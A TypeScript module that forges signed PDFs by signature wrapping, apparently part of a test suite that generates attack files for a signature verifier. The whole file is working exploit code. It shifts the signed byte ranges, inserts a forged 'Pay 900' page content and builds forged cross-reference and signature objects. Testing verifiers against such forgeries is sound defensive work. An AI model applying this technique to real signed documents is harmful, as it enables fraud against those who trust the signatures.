/**
 * Forges a PDF around the signed bytes of another, which all stay where a signature needs them.
 */
import { stream } from '../../pdf/build.ts';
import { CATALOG, CONTENT } from './attack-files.ts';

/** Another content of the first page. */
export const EVIL = stream('', 'BT /F1 12 Tf 20 100 Td (Pay 900) Tj ET');

/** Number of the object that is the newest signature dictionary. */
export function signatureNumber(pdf: Buffer): number {
  const text = pdf.toString('latin1');
  const number = [...text.matchAll(/(\d+) 0 obj\n<<\/Type\/Sig/g)].at(-1)?.[1];
  if (number === undefined) throw new Error('no signature');
  return Number(number);
}

/**
 * Signature wrapping: moves the second signed range to the end of the file and inserts forged bytes before it.
 * The forged cross-reference is at the offset in the signed `startxref`.
 */
export function wrapped(pdf: Buffer, ownSignature: boolean): Buffer {
  const text = pdf.toString('latin1');
  const [, first = 0, second = 0, rest = 0] = (/\/ByteRange\[0 (\d+) (\d+) (\d+)\]/.exec(text) ?? []).map(
    Number,
  );
  const xref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
  const number = signatureNumber(pdf);
  const places = new Map<number, number>();
  for (const { 1: name, index } of text.matchAll(/(?<=\n)(\d+) 0 obj\n/g)) places.set(Number(name), index);
  const body = `\n${CONTENT} 0 obj\n${EVIL}\nendobj\n`.padEnd(xref - second);
  if (body.length !== xref - second) throw new Error('the forged objects do not fit');
  const table = (place: number, own: number): string => {
    const moved = Array.from(places, ([name, at]) => [name, at < second ? at : at - second + place] as const);
    const all = new Map([...moved, [CONTENT, second + 1], ...(ownSignature ? [[number, own] as const] : [])]);
    const lines = Array.from(all, ([name, at]) => `${name} 1\n${String(at).padStart(10, '0')} 00000 n \n`);
    return `xref\n0 1\n0000000000 65535 f \n${lines.join('')}trailer\n<< /Size 200 /Root ${CATALOG} 0 R >>\n`;
  };
  const dict = (place: number): string =>
    `${number} 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/M(D:20260101000000Z)` +
    `/ByteRange[0 ${first} ${String(place).padStart(10, '0')} ${rest}]/Contents ${text.slice(first, second)}>>\nendobj\n`;
  const own = xref + table(0, 0).length;
  const place = own + (ownSignature ? dict(0).length : 0);
  const middle = `${body}${table(place, own)}${ownSignature ? dict(place) : ''}`;
  return Buffer.from(text.slice(0, second) + middle + text.slice(second), 'latin1');
}
